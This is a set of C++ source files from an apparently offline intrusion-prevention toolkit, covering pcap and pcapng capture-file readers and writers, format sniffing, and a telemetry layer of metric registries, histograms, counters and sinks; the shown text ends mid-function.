                 static_cast<std::streamsize>(rec.size()));
  if (!*stream_) throw IoError("pcap::Writer: write failed");
  ++count_;
}

Bytes Writer::take() {
  auto* ss = dynamic_cast<std::ostringstream*>(stream_.get());
  if (ss == nullptr) {
    throw InvalidArgument("pcap::Writer::take: not an in-memory writer");
  }
  const std::string s = ss->str();
  return Bytes(s.begin(), s.end());
}

}  // namespace sdt::pcap
