// pcapng (the Wireshark-default capture format) reader, implemented from
// the block-structure specification. Read-only, covering what offline IPS
// analysis needs: Section Header (both byte orders, multiple sections),
// Interface Description (link type, if_tsresol), Enhanced and Simple
// Packet Blocks. Unknown block types are skipped by design.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "net/headers.hpp"
#include "net/packet.hpp"
#include "util/bytes.hpp"

namespace sdt::pcap {

inline constexpr std::uint32_t kNgSectionHeader = 0x0a0d0d0a;
inline constexpr std::uint32_t kNgInterfaceDescription = 1;
inline constexpr std::uint32_t kNgSimplePacket = 3;
inline constexpr std::uint32_t kNgEnhancedPacket = 6;
inline constexpr std::uint32_t kNgByteOrderMagic = 0x1a2b3c4d;

/// Reads packets from a pcapng stream. Timestamps are normalized to
/// microseconds using each interface's if_tsresol (default 1e-6).
class NgReader {
 public:
  explicit NgReader(const std::string& path);
  explicit NgReader(Bytes data);

  /// Link type of the interface packets are returned from. pcapng allows
  /// per-interface link types; mixed-linktype captures report each packet
  /// against its own interface via last_link_type().
  net::LinkType link_type() const { return first_link_type_; }
  net::LinkType last_link_type() const { return last_link_type_; }
  bool truncated() const { return truncated_; }
  std::uint64_t packets_read() const { return count_; }

  std::optional<net::Packet> next();
  std::vector<net::Packet> read_all();

 private:
  struct Interface {
    net::LinkType link_type = net::LinkType::ethernet;
    /// Ticks per second of this interface's timestamps.
    std::uint64_t ticks_per_sec = 1'000'000;
  };

  bool read_exact(std::uint8_t* dst, std::size_t n);
  std::uint32_t u32(const std::uint8_t* p) const;
  std::uint16_t u16(const std::uint8_t* p) const;
  void parse_section_header(ByteView body);
  void parse_interface_description(ByteView body);
  std::optional<net::Packet> parse_enhanced_packet(ByteView body);
  std::optional<net::Packet> parse_simple_packet(ByteView body);

  std::unique_ptr<std::istream> stream_;
  bool swapped_ = false;
  bool truncated_ = false;
  bool seen_shb_ = false;
  net::LinkType first_link_type_ = net::LinkType::ethernet;
  net::LinkType last_link_type_ = net::LinkType::ethernet;
  bool have_first_link_ = false;
  std::vector<Interface> interfaces_;
  std::uint64_t count_ = 0;
};

/// Unified capture access: sniffs the magic and opens classic pcap or
/// pcapng transparently.
class CaptureReader {
 public:
  virtual ~CaptureReader() = default;
  virtual net::LinkType link_type() const = 0;
  virtual bool truncated() const = 0;
  virtual std::optional<net::Packet> next() = 0;
};

/// Open any supported capture file. Throws ParseError on an unrecognized
/// magic, IoError if unreadable.
std::unique_ptr<CaptureReader> open_capture(const std::string& path);
/// Same, over an in-memory capture.
std::unique_ptr<CaptureReader> open_capture(Bytes data);

}  // namespace sdt::pcap
