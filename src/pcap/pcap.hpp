// Classic libpcap capture-file reader/writer, implemented from the file
// format specification (no libpcap dependency).
//
// Supported: both byte orders, microsecond (0xa1b2c3d4) and nanosecond
// (0xa1b23c4d) magic, arbitrary snap lengths. Timestamps are normalized to
// microseconds on read.
#pragma once

#include <cstdint>
#include <istream>
#include <memory>
#include <optional>
#include <ostream>
#include <string>
#include <vector>

#include "net/headers.hpp"
#include "net/packet.hpp"
#include "util/bytes.hpp"

namespace sdt::pcap {

inline constexpr std::uint32_t kMagicUsec = 0xa1b2c3d4;
inline constexpr std::uint32_t kMagicNsec = 0xa1b23c4d;
inline constexpr std::uint32_t kMagicUsecSwapped = 0xd4c3b2a1;
inline constexpr std::uint32_t kMagicNsecSwapped = 0x4d3cb2a1;

/// Reads packets from a pcap stream. Throws IoError / ParseError on a file
/// that cannot be opened or whose global header is malformed; a record that
/// is truncated mid-file ends iteration (next() returns nullopt) and sets
/// truncated().
class Reader {
 public:
  /// Open a capture file on disk.
  explicit Reader(const std::string& path);
  /// Read from an in-memory capture (tests, synthesized traces).
  explicit Reader(Bytes data);

  net::LinkType link_type() const { return link_type_; }
  std::uint32_t snaplen() const { return snaplen_; }
  /// True once a short record was hit at end of file.
  bool truncated() const { return truncated_; }
  std::uint64_t packets_read() const { return count_; }

  /// Next packet, or nullopt at end of stream.
  std::optional<net::Packet> next();

  /// Drain the whole stream.
  std::vector<net::Packet> read_all();

 private:
  void parse_global_header();
  std::uint32_t u32(const std::uint8_t* p) const;
  std::uint16_t u16(const std::uint8_t* p) const;

  std::unique_ptr<std::istream> stream_;
  bool swapped_ = false;
  bool nsec_ = false;
  bool truncated_ = false;
  net::LinkType link_type_ = net::LinkType::ethernet;
  std::uint32_t snaplen_ = 0;
  std::uint64_t count_ = 0;
};

/// Writes packets to a pcap stream (native byte order, microsecond magic).
class Writer {
 public:
  Writer(const std::string& path, net::LinkType lt,
         std::uint32_t snaplen = 262144);
  /// In-memory writer; collect the bytes with take().
  explicit Writer(net::LinkType lt, std::uint32_t snaplen = 262144);
  ~Writer();

  Writer(const Writer&) = delete;
  Writer& operator=(const Writer&) = delete;

  void write(const net::Packet& pkt);
  void write(std::uint64_t ts_usec, ByteView frame);
  std::uint64_t packets_written() const { return count_; }

  /// For the in-memory variant: the full capture produced so far.
  Bytes take();

 private:
  void write_global_header(net::LinkType lt, std::uint32_t snaplen);

  std::unique_ptr<std::ostream> stream_;
  std::string path_;  // empty for in-memory
  std::uint32_t snaplen_ = 0;
  std::uint64_t count_ = 0;
};

}  // namespace sdt::pcap
