#include "pcap/pcapng.hpp"

#include <fstream>
#include <sstream>

#include "pcap/pcap.hpp"
#include "util/error.hpp"

namespace sdt::pcap {

namespace {

std::unique_ptr<std::istream> open_input(const std::string& path) {
  auto f = std::make_unique<std::ifstream>(path, std::ios::binary);
  if (!*f) throw IoError("pcapng: cannot open '" + path + "'");
  return f;
}

std::unique_ptr<std::istream> memory_input(Bytes data) {
  return std::make_unique<std::istringstream>(
      std::string(reinterpret_cast<const char*>(data.data()), data.size()),
      std::ios::binary);
}

}  // namespace

NgReader::NgReader(const std::string& path) : stream_(open_input(path)) {}

NgReader::NgReader(Bytes data) : stream_(memory_input(std::move(data))) {}

bool NgReader::read_exact(std::uint8_t* dst, std::size_t n) {
  stream_->read(reinterpret_cast<char*>(dst),
                static_cast<std::streamsize>(n));
  return static_cast<std::size_t>(stream_->gcount()) == n;
}

std::uint32_t NgReader::u32(const std::uint8_t* p) const {
  if (swapped_) {
    return std::uint32_t{p[0]} << 24 | std::uint32_t{p[1]} << 16 |
           std::uint32_t{p[2]} << 8 | std::uint32_t{p[3]};
  }
  return std::uint32_t{p[0]} | std::uint32_t{p[1]} << 8 |
         std::uint32_t{p[2]} << 16 | std::uint32_t{p[3]} << 24;
}

std::uint16_t NgReader::u16(const std::uint8_t* p) const {
  if (swapped_) return static_cast<std::uint16_t>((p[0] << 8) | p[1]);
  return static_cast<std::uint16_t>(p[0] | (p[1] << 8));
}

void NgReader::parse_section_header(ByteView body) {
  if (body.size() < 16) throw ParseError("pcapng: SHB too short");
  // The byte-order magic was already consumed for endianness detection by
  // the caller (raw bytes in body[0..4)).
  const std::uint32_t bom_le = std::uint32_t{body[0]} |
                               std::uint32_t{body[1]} << 8 |
                               std::uint32_t{body[2]} << 16 |
                               std::uint32_t{body[3]} << 24;
  if (bom_le == kNgByteOrderMagic) {
    swapped_ = false;
  } else if (bom_le == 0x4d3c2b1a) {
    swapped_ = true;
  } else {
    throw ParseError("pcapng: bad byte-order magic");
  }
  const std::uint16_t major = u16(body.data() + 4);
  if (major != 1) {
    throw ParseError("pcapng: unsupported major version " +
                     std::to_string(major));
  }
  // New section: interfaces are section-scoped.
  interfaces_.clear();
  seen_shb_ = true;
}

void NgReader::parse_interface_description(ByteView body) {
  if (body.size() < 8) return;  // malformed IDB: skip
  Interface ifc;
  ifc.link_type = static_cast<net::LinkType>(u16(body.data()));
  // Walk options for if_tsresol (code 9).
  std::size_t off = 8;
  while (off + 4 <= body.size()) {
    const std::uint16_t code = u16(body.data() + off);
    const std::uint16_t len = u16(body.data() + off + 2);
    off += 4;
    if (off + len > body.size()) break;
    if (code == 0) break;  // opt_endofopt
    if (code == 9 && len >= 1) {
      const std::uint8_t res = body[off];
      if (res & 0x80) {
        ifc.ticks_per_sec = 1ull << (res & 0x7f);
      } else {
        std::uint64_t t = 1;
        for (std::uint8_t i = 0; i < res && i < 19; ++i) t *= 10;
        ifc.ticks_per_sec = t;
      }
    }
    off += (len + 3u) & ~3u;  // options are 4-byte padded
  }
  if (!have_first_link_) {
    first_link_type_ = ifc.link_type;
    have_first_link_ = true;
  }
  interfaces_.push_back(ifc);
}

std::optional<net::Packet> NgReader::parse_enhanced_packet(ByteView body) {
  if (body.size() < 20) return std::nullopt;
  const std::uint32_t if_id = u32(body.data());
  const std::uint64_t ts = (std::uint64_t{u32(body.data() + 4)} << 32) |
                           u32(body.data() + 8);
  const std::uint32_t cap_len = u32(body.data() + 12);
  if (20 + cap_len > body.size()) return std::nullopt;

  const Interface ifc = if_id < interfaces_.size() ? interfaces_[if_id]
                                                   : Interface{};
  last_link_type_ = ifc.link_type;
  const std::uint64_t usec =
      ifc.ticks_per_sec == 1'000'000
          ? ts
          : static_cast<std::uint64_t>(
                static_cast<double>(ts) * 1e6 /
                static_cast<double>(ifc.ticks_per_sec));
  Bytes frame(body.begin() + 20, body.begin() + 20 + cap_len);
  return net::Packet{usec, std::move(frame)};
}

std::optional<net::Packet> NgReader::parse_simple_packet(ByteView body) {
  if (body.size() < 4) return std::nullopt;
  const std::uint32_t orig_len = u32(body.data());
  const std::size_t cap_len =
      std::min<std::size_t>(orig_len, body.size() - 4);
  const Interface ifc = !interfaces_.empty() ? interfaces_[0] : Interface{};
  last_link_type_ = ifc.link_type;
  Bytes frame(body.begin() + 4,
              body.begin() + 4 + static_cast<std::ptrdiff_t>(cap_len));
  return net::Packet{0, std::move(frame)};  // SPBs carry no timestamp
}

std::optional<net::Packet> NgReader::next() {
  for (;;) {
    std::uint8_t hdr[8];
    stream_->read(reinterpret_cast<char*>(hdr), sizeof hdr);
    const auto got = static_cast<std::size_t>(stream_->gcount());
    if (got == 0) return std::nullopt;  // clean EOF
    if (got < sizeof hdr) {
      truncated_ = true;
      return std::nullopt;
    }

    // Block type is endian-sensitive except for the SHB, whose type is a
    // palindrome; total length must be decoded with the SECTION's
    // endianness — for an SHB we must peek at the BOM first.
    const std::uint32_t raw_type_le = std::uint32_t{hdr[0]} |
                                      std::uint32_t{hdr[1]} << 8 |
                                      std::uint32_t{hdr[2]} << 16 |
                                      std::uint32_t{hdr[3]} << 24;
    const bool is_shb = raw_type_le == kNgSectionHeader;

    if (!seen_shb_ && !is_shb) {
      throw ParseError("pcapng: file does not start with a section header");
    }

    std::uint32_t total_len;
    if (is_shb) {
      // Peek the BOM to learn endianness before trusting total_len.
      std::uint8_t bom[4];
      if (!read_exact(bom, 4)) {
        truncated_ = true;
        return std::nullopt;
      }
      const std::uint32_t bom_le = std::uint32_t{bom[0]} |
                                   std::uint32_t{bom[1]} << 8 |
                                   std::uint32_t{bom[2]} << 16 |
                                   std::uint32_t{bom[3]} << 24;
      if (bom_le == kNgByteOrderMagic) {
        swapped_ = false;
      } else if (bom_le == 0x4d3c2b1a) {
        swapped_ = true;
      } else {
        throw ParseError("pcapng: bad byte-order magic");
      }
      total_len = u32(hdr + 4);
      if (total_len < 28 || total_len % 4 != 0) {
        throw ParseError("pcapng: bad SHB length");
      }
      Bytes body(total_len - 12);  // block minus 8B header and 4B trailer
      std::copy(bom, bom + 4, body.begin());
      if (!read_exact(body.data() + 4, body.size() - 4)) {
        truncated_ = true;
        return std::nullopt;
      }
      std::uint8_t shb_tail[4];
      if (!read_exact(shb_tail, 4)) {
        truncated_ = true;
        return std::nullopt;
      }
      parse_section_header(body);
      continue;
    }

    const std::uint32_t type = u32(hdr);
    total_len = u32(hdr + 4);
    if (total_len < 12 || total_len % 4 != 0 ||
        total_len > 256u * 1024 * 1024) {
      truncated_ = true;  // structurally broken: stop
      return std::nullopt;
    }
    Bytes body(total_len - 12);
    if (!read_exact(body.data(), body.size())) {
      truncated_ = true;
      return std::nullopt;
    }
    std::uint8_t tail[4];
    if (!read_exact(tail, 4)) {
      truncated_ = true;
      return std::nullopt;
    }

    switch (type) {
      case kNgInterfaceDescription:
        parse_interface_description(body);
        break;
      case kNgEnhancedPacket:
        if (auto p = parse_enhanced_packet(body)) {
          ++count_;
          return p;
        }
        break;
      case kNgSimplePacket:
        if (auto p = parse_simple_packet(body)) {
          ++count_;
          return p;
        }
        break;
      default:
        break;  // statistics, name resolution, custom blocks: skip
    }
  }
}

std::vector<net::Packet> NgReader::read_all() {
  std::vector<net::Packet> out;
  while (auto p = next()) out.push_back(std::move(*p));
  return out;
}

// ---------------------------------------------------------------------------

namespace {

class ClassicAdapter final : public CaptureReader {
 public:
  explicit ClassicAdapter(Reader r) : r_(std::move(r)) {}
  net::LinkType link_type() const override { return r_.link_type(); }
  bool truncated() const override { return r_.truncated(); }
  std::optional<net::Packet> next() override { return r_.next(); }

 private:
  Reader r_;
};

class NgAdapter final : public CaptureReader {
 public:
  explicit NgAdapter(NgReader r) : r_(std::move(r)) {
    // pcapng learns its link type from the first IDB, which precedes the
    // first packet; prefetch one packet so link_type() is meaningful
    // immediately (symmetry with the classic reader's global header).
    pending_ = r_.next();
  }
  net::LinkType link_type() const override { return r_.link_type(); }
  bool truncated() const override { return r_.truncated(); }
  std::optional<net::Packet> next() override {
    if (pending_) {
      auto p = std::move(pending_);
      pending_.reset();
      return p;
    }
    return r_.next();
  }

 private:
  NgReader r_;
  std::optional<net::Packet> pending_;
};

bool looks_like_ng(const std::uint8_t magic[4]) {
  return magic[0] == 0x0a && magic[1] == 0x0d && magic[2] == 0x0d &&
         magic[3] == 0x0a;
}

}  // namespace

std::unique_ptr<CaptureReader> open_capture(const std::string& path) {
  std::ifstream probe(path, std::ios::binary);
  if (!probe) throw IoError("open_capture: cannot open '" + path + "'");
  std::uint8_t magic[4] = {};
  probe.read(reinterpret_cast<char*>(magic), 4);
  probe.close();
  if (looks_like_ng(magic)) {
    return std::make_unique<NgAdapter>(NgReader(path));
  }
  return std::make_unique<ClassicAdapter>(Reader(path));
}

std::unique_ptr<CaptureReader> open_capture(Bytes data) {
  if (data.size() >= 4 && looks_like_ng(data.data())) {
    return std::make_unique<NgAdapter>(NgReader(std::move(data)));
  }
  return std::make_unique<ClassicAdapter>(Reader(std::move(data)));
}

}  // namespace sdt::pcap
