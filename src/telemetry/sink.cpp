#include "telemetry/sink.hpp"

#include <cinttypes>
#include <cstdio>
#include <filesystem>

#include "util/error.hpp"

namespace sdt::telemetry {

void HumanSink::emit(const RegistrySnapshot& snap) {
  std::fprintf(out_, "--- metrics ---\n");
  for (const CounterSample& s : snap.scalars) {
    if (skip_zero_ && s.value == 0) continue;
    std::fprintf(out_, "%-44s %14" PRIu64 " %s\n", s.desc.name.c_str(),
                 s.value, s.desc.unit.c_str());
  }
  for (const HistogramSample& h : snap.histograms) {
    if (skip_zero_ && h.hist.empty()) continue;
    std::fprintf(out_,
                 "%-44s n=%-10" PRIu64 " mean=%-8.0f p50=%-8" PRIu64
                 " p90=%-8" PRIu64 " p99=%-8" PRIu64 " max=%" PRIu64 " %s\n",
                 h.desc.name.c_str(), h.hist.count, h.hist.mean(),
                 h.hist.p50(), h.hist.p90(), h.hist.p99(), h.hist.max,
                 h.desc.unit.c_str());
  }
  std::fflush(out_);
}

void JsonFileSink::emit(const RegistrySnapshot& snap) {
  const std::string tmp = path_ + ".tmp";
  std::FILE* f = std::fopen(tmp.c_str(), "wb");
  if (!f) throw Error("JsonFileSink: cannot open " + tmp);
  const std::string body = snap.to_json();
  const std::size_t n = std::fwrite(body.data(), 1, body.size(), f);
  std::fputc('\n', f);
  std::fclose(f);
  if (n != body.size()) throw Error("JsonFileSink: short write to " + tmp);
  std::filesystem::rename(tmp, path_);
}

PeriodicDumper::PeriodicDumper(const MetricsRegistry& registry, Sink& sink,
                               std::chrono::milliseconds interval)
    : registry_(registry), sink_(sink), interval_(interval) {}

PeriodicDumper::~PeriodicDumper() { stop(); }

void PeriodicDumper::start() {
  if (thread_.joinable()) return;
  {
    std::lock_guard<std::mutex> lk(mu_);
    stopping_ = false;
  }
  thread_ = std::thread([this] { run(); });
}

void PeriodicDumper::stop() {
  {
    std::lock_guard<std::mutex> lk(mu_);
    stopping_ = true;
  }
  cv_.notify_all();
  if (thread_.joinable()) thread_.join();
}

void PeriodicDumper::run() {
  std::unique_lock<std::mutex> lk(mu_);
  for (;;) {
    if (cv_.wait_for(lk, interval_, [this] { return stopping_; })) return;
    lk.unlock();
    sink_.emit(registry_.snapshot(SampleScope::live));
    ticks_.fetch_add(1, std::memory_order_relaxed);
    lk.lock();
  }
}

}  // namespace sdt::telemetry
