// Fixed-bucket log2 histogram for hot-path latency/size tracking.
//
// LogHistogram is the recording side: 64 power-of-two buckets plus
// count/sum/min/max, every cell a single-writer atomic, so one lane thread
// records with a handful of relaxed increments (no locks, no allocation,
// no branches beyond the bit_width) while any other thread snapshots
// concurrently. HistogramSnapshot is the reading side: a plain value type
// that merges across lanes (bucket-wise addition — log2 buckets make the
// merge exact) and answers quantile queries by rank interpolation inside
// the winning bucket, so p50/p90/p99 come out of a deployment-wide merge
// without the lanes ever sharing a cache line.
//
// Resolution: a value lands in bucket bit_width(v), i.e. [2^(i-1), 2^i).
// A quantile is therefore exact to within its bucket (≤ 2× relative
// error), which is the standard trade for a fixed-footprint mergeable
// histogram (HdrHistogram-style, radix 2). min/max are tracked exactly.
#pragma once

#include <algorithm>
#include <atomic>
#include <bit>
#include <cstddef>
#include <cstdint>
#include <limits>

namespace sdt::telemetry {

inline constexpr std::size_t kHistogramBuckets = 64;

/// Bucket index for a value: 0 holds exactly {0}; bucket i (i >= 1) holds
/// [2^(i-1), 2^i); the top bucket absorbs everything >= 2^62.
constexpr std::size_t bucket_index(std::uint64_t v) {
  return std::min<std::size_t>(std::bit_width(v), kHistogramBuckets - 1);
}
/// Inclusive lower bound of a bucket's value range.
constexpr std::uint64_t bucket_lo(std::size_t i) {
  return i == 0 ? 0 : std::uint64_t(1) << (i - 1);
}
/// Inclusive upper bound of a bucket's value range.
constexpr std::uint64_t bucket_hi(std::size_t i) {
  if (i == 0) return 0;
  if (i >= kHistogramBuckets - 1) return std::numeric_limits<std::uint64_t>::max();
  return (std::uint64_t(1) << i) - 1;
}

/// Plain-value histogram state: what a snapshot or a cross-lane merge
/// yields. Safe to copy, compare, and query from any thread.
struct HistogramSnapshot {
  std::uint64_t buckets[kHistogramBuckets] = {};
  std::uint64_t count = 0;
  std::uint64_t sum = 0;
  std::uint64_t min = std::numeric_limits<std::uint64_t>::max();
  std::uint64_t max = 0;

  bool empty() const { return count == 0; }
  double mean() const {
    return count == 0 ? 0.0
                      : static_cast<double>(sum) / static_cast<double>(count);
  }

  /// Bucket-wise merge; log2 buckets line up exactly, so merging N lane
  /// histograms is lossless with respect to each one's own resolution.
  void merge(const HistogramSnapshot& o) {
    for (std::size_t i = 0; i < kHistogramBuckets; ++i) buckets[i] += o.buckets[i];
    count += o.count;
    sum += o.sum;
    min = std::min(min, o.min);
    max = std::max(max, o.max);
  }

  /// Quantile by rank: find the bucket holding the q-th sample and
  /// interpolate linearly inside its value range, clamped to the exact
  /// observed [min, max]. q in [0, 1]; empty histogram -> 0.
  std::uint64_t quantile(double q) const {
    if (count == 0) return 0;
    q = std::clamp(q, 0.0, 1.0);
    // 1-based rank of the sample we want.
    const std::uint64_t rank = std::max<std::uint64_t>(
        1, static_cast<std::uint64_t>(q * static_cast<double>(count - 1)) + 1);
    std::uint64_t seen = 0;
    for (std::size_t i = 0; i < kHistogramBuckets; ++i) {
      if (buckets[i] == 0) continue;
      if (seen + buckets[i] >= rank) {
        // Position of the wanted rank inside this bucket, in [0, 1).
        const double frac = static_cast<double>(rank - seen - 1) /
                            static_cast<double>(buckets[i]);
        const double lo = static_cast<double>(bucket_lo(i));
        const double hi = static_cast<double>(bucket_hi(i));
        const auto est = static_cast<std::uint64_t>(lo + frac * (hi - lo));
        return std::clamp(est, min, max);
      }
      seen += buckets[i];
    }
    return max;  // unreachable when the counts are consistent
  }

  std::uint64_t p50() const { return quantile(0.50); }
  std::uint64_t p90() const { return quantile(0.90); }
  std::uint64_t p99() const { return quantile(0.99); }
};

/// The recording side. Single-writer: exactly one thread calls record();
/// any thread may snapshot() at any time. A mid-flight snapshot may lag the
/// writer by the samples still being recorded (monotonic, never invented);
/// at quiescence it is exact.
class LogHistogram {
 public:
  void record(std::uint64_t v) {
    buckets_[bucket_index(v)].fetch_add(1, std::memory_order_relaxed);
    sum_.fetch_add(v, std::memory_order_relaxed);
    // Single writer: plain load-compare-store is race-free against itself;
    // concurrent readers see either the old or the new extreme.
    if (v < min_.load(std::memory_order_relaxed))
      min_.store(v, std::memory_order_relaxed);
    if (v > max_.load(std::memory_order_relaxed))
      max_.store(v, std::memory_order_relaxed);
    // count last, released: a reader that observes the count also observes
    // the bucket increment it describes.
    count_.fetch_add(1, std::memory_order_release);
  }

  HistogramSnapshot snapshot() const {
    HistogramSnapshot s;
    s.count = count_.load(std::memory_order_acquire);
    s.sum = sum_.load(std::memory_order_relaxed);
    s.min = min_.load(std::memory_order_relaxed);
    s.max = max_.load(std::memory_order_relaxed);
    std::uint64_t in_buckets = 0;
    for (std::size_t i = 0; i < kHistogramBuckets; ++i) {
      s.buckets[i] = buckets_[i].load(std::memory_order_relaxed);
      in_buckets += s.buckets[i];
    }
    // A racing record() may have bumped a bucket after we read `count`;
    // keep the snapshot internally consistent by trusting the buckets.
    s.count = std::max(s.count, in_buckets);
    // A half-visible first sample (bucket bumped, min/max stores not yet
    // seen) would leave min > max and make quantile's clamp ill-formed;
    // collapse to the visible extreme. Exact again at quiescence.
    if (s.count > 0 && s.min > s.max) s.min = s.max;
    return s;
  }

  std::uint64_t count() const { return count_.load(std::memory_order_relaxed); }

 private:
  std::atomic<std::uint64_t> buckets_[kHistogramBuckets] = {};
  std::atomic<std::uint64_t> count_{0};
  std::atomic<std::uint64_t> sum_{0};
  std::atomic<std::uint64_t> min_{std::numeric_limits<std::uint64_t>::max()};
  std::atomic<std::uint64_t> max_{0};
};

}  // namespace sdt::telemetry
