// Cache-line-padded monotonic counter.
//
// Each counter owns a full destructive-interference span, so a bank of
// them (one per lane, or several per lane) never false-shares: lane 0
// bumping `processed` cannot evict lane 1's `fed` line. The write side is
// single-writer relaxed adds — one instruction on x86 — and any thread may
// read at any time.
#pragma once

#include <atomic>
#include <cstdint>

namespace sdt::telemetry {

// Fixed 64 rather than std::hardware_destructive_interference_size: the
// standard constant is compile-flag-dependent (GCC warns it can vary and
// poison ABIs), and 64 is the destructive span on every platform this
// targets. Same choice as SpscRing's alignas(64).
inline constexpr std::size_t kCacheLine = 64;

/// Monotonic event counter. Exactly one thread calls add(); any thread may
/// load() concurrently (relaxed — pair with an acquire elsewhere when the
/// count gates visibility of other work, as LaneCounters::processed does).
struct alignas(kCacheLine) PaddedCounter {
  std::atomic<std::uint64_t> v{0};

  void add(std::uint64_t n = 1) { v.fetch_add(n, std::memory_order_relaxed); }
  std::uint64_t load() const { return v.load(std::memory_order_relaxed); }
};

}  // namespace sdt::telemetry
