// MetricsRegistry — the one directory of everything observable.
//
// Components (Runtime, FlowDispatcher via Runtime, LaneWorker,
// SplitDetectEngine) register their metrics once, by name, with unit and
// owner metadata; pollers (the periodic stats dump, the JSON exporter, a
// test asserting a conservation law) take a RegistrySnapshot whenever they
// like. Registration is set-up-time and mutex-guarded; *sampling* reads
// only single-writer atomics and histograms, so a poll never takes a lock
// that a packet-path thread could be holding — the packet path itself
// never touches the registry at all.
//
// Three metric kinds:
//   counter   — non-owning pointer to a std::atomic<uint64_t> some
//               component increments; monotonic; live-safe to poll.
//   gauge     — a callback returning uint64_t. The registrant declares
//               thread-safety via MetricDesc::live: live gauges read
//               atomics or immutable config; non-live gauges (e.g. a lane
//               engine's private tallies) are only sampled when
//               snapshot(SampleScope::quiescent) is requested.
//   histogram — non-owning pointer to a LogHistogram; live-safe.
//
// Registrants must outlive every snapshot() call (non-owning pointers by
// design: zero indirection cost on the write side).
//
// The naming contract, units, and the JSON schema are documented in
// docs/OBSERVABILITY.md — keep them in sync.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <mutex>
#include <string>
#include <vector>

#include "telemetry/histogram.hpp"

namespace sdt::telemetry {

struct MetricDesc {
  /// Dotted path, e.g. "runtime.lane3.processed". Segments are
  /// [a-z0-9_]+; the prefix names the owning component instance.
  std::string name;
  /// Unit string from the contract: "packets", "bytes", "ns", "alerts",
  /// "flows", "events", or "" for dimensionless gauges.
  std::string unit;
  /// Which component writes it, e.g. "dispatcher", "lane", "engine".
  std::string owner;
  /// Safe to sample while worker threads run (atomics / immutable state).
  /// Non-live metrics are skipped by live snapshots instead of racing.
  bool live = true;
};

enum class MetricKind : std::uint8_t { counter, gauge, histogram };

/// When to sample: `live` polls only race-free metrics (any time);
/// `quiescent` additionally samples non-live gauges (caller guarantees the
/// writers are stopped or are the calling thread).
enum class SampleScope : std::uint8_t { live, quiescent };

struct CounterSample {
  MetricDesc desc;
  MetricKind kind = MetricKind::counter;
  std::uint64_t value = 0;
};

struct HistogramSample {
  MetricDesc desc;
  HistogramSnapshot hist;
};

struct RegistrySnapshot {
  std::vector<CounterSample> scalars;  // counters + gauges, registration order
  std::vector<HistogramSample> histograms;

  /// Value lookup by exact name; returns 0 and sets *found=false if absent.
  std::uint64_t value(std::string_view name, bool* found = nullptr) const;
  const HistogramSample* histogram(std::string_view name) const;

  /// The documented JSON form (docs/OBSERVABILITY.md): one object with a
  /// "metrics" array and a "histograms" array.
  std::string to_json() const;
};

class MetricsRegistry {
 public:
  MetricsRegistry() = default;
  MetricsRegistry(const MetricsRegistry&) = delete;
  MetricsRegistry& operator=(const MetricsRegistry&) = delete;

  /// Register a live counter backed by an atomic the component owns.
  void add_counter(MetricDesc desc, const std::atomic<std::uint64_t>* src);
  /// Register a gauge; desc.live declares whether `fn` is race-free while
  /// workers run.
  void add_gauge(MetricDesc desc, std::function<std::uint64_t()> fn);
  /// Register a live histogram backed by a component-owned LogHistogram.
  void add_histogram(MetricDesc desc, const LogHistogram* src);

  /// Drop every metric whose name starts with `prefix` (component
  /// teardown: deregister before the backing storage dies).
  void remove_prefix(std::string_view prefix);

  std::size_t size() const;

  RegistrySnapshot snapshot(SampleScope scope = SampleScope::live) const;

 private:
  struct Entry {
    MetricDesc desc;
    MetricKind kind;
    const std::atomic<std::uint64_t>* counter = nullptr;
    std::function<std::uint64_t()> gauge;
    const LogHistogram* hist = nullptr;
  };

  mutable std::mutex mu_;  // guards entries_ layout, never sampled data
  std::vector<Entry> entries_;
};

}  // namespace sdt::telemetry
