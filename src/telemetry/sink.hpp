// Pluggable metric sinks + the periodic dumper.
//
// A Sink consumes RegistrySnapshots; the registry itself neither formats
// nor schedules. Two sinks ship:
//   HumanSink — aligned text to a FILE* (what `ips_gateway
//               --stats-interval` prints each tick);
//   JsonFileSink — the documented JSON snapshot to a path (atomically:
//               write temp, rename), one snapshot per emit.
// PeriodicDumper owns a thread that polls a registry every interval and
// feeds one sink — live scope only, so it can run while lanes process
// packets. Stop before tearing down the registry or any registrant.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdio>
#include <mutex>
#include <string>
#include <thread>

#include "telemetry/registry.hpp"

namespace sdt::telemetry {

class Sink {
 public:
  virtual ~Sink() = default;
  virtual void emit(const RegistrySnapshot& snap) = 0;
};

/// Aligned human-readable dump. Histograms print count/mean/p50/p90/p99 in
/// their unit; scalars print name, value, unit. Zero-valued scalars are
/// elided when `skip_zero` (periodic dumps stay readable under light load).
class HumanSink : public Sink {
 public:
  explicit HumanSink(std::FILE* out = stdout, bool skip_zero = false)
      : out_(out), skip_zero_(skip_zero) {}
  void emit(const RegistrySnapshot& snap) override;

 private:
  std::FILE* out_;
  bool skip_zero_;
};

/// Writes each snapshot's JSON to `path` (temp file + rename, so a reader
/// never sees a torn write).
class JsonFileSink : public Sink {
 public:
  explicit JsonFileSink(std::string path) : path_(std::move(path)) {}
  void emit(const RegistrySnapshot& snap) override;

 private:
  std::string path_;
};

/// Polls `registry` every `interval` on its own thread and emits a live
/// snapshot to `sink`. start() is idempotent; stop() joins and emits
/// nothing further. The final state is NOT auto-emitted on stop — callers
/// that want a closing snapshot emit one explicitly (scope of their
/// choosing).
class PeriodicDumper {
 public:
  PeriodicDumper(const MetricsRegistry& registry, Sink& sink,
                 std::chrono::milliseconds interval);
  ~PeriodicDumper();

  PeriodicDumper(const PeriodicDumper&) = delete;
  PeriodicDumper& operator=(const PeriodicDumper&) = delete;

  void start();
  void stop();
  std::uint64_t ticks() const { return ticks_.load(std::memory_order_relaxed); }

 private:
  void run();

  const MetricsRegistry& registry_;
  Sink& sink_;
  std::chrono::milliseconds interval_;
  std::atomic<std::uint64_t> ticks_{0};
  std::mutex mu_;
  std::condition_variable cv_;
  bool stopping_ = false;
  std::thread thread_;
};

}  // namespace sdt::telemetry
