#include "telemetry/registry.hpp"

#include <algorithm>

#include "util/json.hpp"

namespace sdt::telemetry {

std::uint64_t RegistrySnapshot::value(std::string_view name,
                                      bool* found) const {
  for (const CounterSample& s : scalars) {
    if (s.desc.name == name) {
      if (found) *found = true;
      return s.value;
    }
  }
  if (found) *found = false;
  return 0;
}

const HistogramSample* RegistrySnapshot::histogram(
    std::string_view name) const {
  for (const HistogramSample& h : histograms) {
